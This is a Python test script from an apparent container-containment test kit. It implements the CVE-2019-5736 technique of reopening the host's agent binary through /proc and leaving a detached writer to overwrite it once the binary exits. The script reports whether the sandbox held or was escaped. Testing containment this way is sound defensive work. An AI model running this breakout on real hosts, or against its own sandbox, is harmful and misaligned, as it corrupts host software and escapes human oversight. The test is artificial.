#!/usr/bin/python3
# Goal:    overwrite the host's agent binary through /proc/<ppid>/exe after it exits
# Models:  CVE-2019-5736 (runc /proc/self/exe)
# Oracle:  modified OUT/bin/agentstub
# Tier:    core
# Needs:   -
# Fixture: stub
from ctk import *

fd = None
for p in ancestors():
    try:
        if os.readlink("/proc/%d/exe" % p).endswith("/agentstub"):
            fd = os.open("/proc/%d/exe" % p, os.O_RDONLY)
            break
    except OSError:
        pass
if fd is None:
    contained("agent binary not reachable through /proc")
if os.fork() == 0:
    os.setsid()
    n = os.open("/dev/null", os.O_RDWR)
    os.dup2(n, 0)
    os.dup2(n, 1)
    os.dup2(n, 2)
    end = time.time() + 4
    while time.time() < end:
        try:
            w = os.open("/proc/self/fd/%d" % fd, os.O_WRONLY | os.O_APPEND)
            os.write(w, NONCE.encode())
            os._exit(0)
        except OSError:
            time.sleep(0.02)
    os._exit(0)
escaped("writer left behind for the agent binary")
